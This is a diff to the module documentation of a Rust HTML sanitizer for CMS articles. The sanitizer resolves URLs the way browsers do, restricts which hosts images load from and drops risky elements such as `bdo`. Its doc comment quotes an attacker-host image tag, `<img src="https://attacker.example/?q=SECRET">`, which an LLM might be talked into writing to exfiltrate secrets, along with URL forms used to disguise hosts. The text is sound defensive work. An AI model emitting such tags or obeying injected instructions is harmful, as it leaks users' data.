@@ -3,10 +3,11 @@
 //! Built on [`ammonia`] (html5ever's parser, an allow-list, serialization) with a policy
 //! for CMS articles, plus what raw ammonia does not do:
 //!
-//! - **URLs are resolved before they are trusted.** Every `href`, `src` and `cite` is
-//!   parsed and resolved against the site as a browser would, so `//host`, `/\host`,
-//!   `\\host`, userinfo (`https://cdn@attacker/`) and look-alike hosts are judged by
-//!   where they lead. Images load only from the site and an allow-list of hosts: an LLM
+//! - **URLs are read as a browser reads them before they are trusted.** Tabs and
+//!   newlines inside a URL are removed (browsers ignore them); a reference with no scheme
+//!   and no authority stays on the site; anything else is resolved against the site, so
+//!   `//host`, `/\host`, `\\host`, `https:host`, userinfo (`https://cdn@attacker/`) and
+//!   look-alike hosts are judged by where they lead, and written out as judged. Images load only from the site and an allow-list of hosts: an LLM
 //!   talked into writing `<img src="https://attacker.example/?q=SECRET">` cannot
 //!   exfiltrate anything when the page renders.
 //! - **Stable output**: cleaning is repeated until it reaches a fixed point, so
@@ -45,7 +46,8 @@
 //! blockquote, `q`, code and `pre`, emphasis and the other phrasing elements, `ruby`,
 //! links (http, https, mailto, tel, relative; with `rel="noopener noreferrer nofollow"`),
 //! images, `figure`/`figcaption`, `br`, `hr`; the attributes `lang`, `dir`, `title`,
-//! `datetime` and the few each element needs. Dropped: scripts, event handlers,
+//! `datetime` and the few each element needs. Dropped: `bdo` (it reverses text like a
+//! bidi override), scripts, event handlers,
 //! `style` and CSS `url()`, forms, frames, `object`/`embed`, `base`, `meta`, `link`, SVG
 //! and MathML, `srcset`, `ping`, `background`, `poster`, `id` and `class` (DOM
 //! clobbering), comments.
@@ -64,7 +66,9 @@ mod urls;
 
 use std::sync::LazyLock;
 
-pub use self::blocks::{BlocksReport, DEFAULT_HTML_FIELDS};
+pub use self::blocks::{
+    BlockFields, BlocksReport, DEFAULT_HTML_FIELDS, DEFAULT_IMAGE_FIELDS, DEFAULT_LINK_FIELDS,
+};
 pub use self::policy::{HtmlPolicyError, HtmlSanitizer, HtmlSanitizerBuilder};
 pub use self::urls::LinkHosts;
 
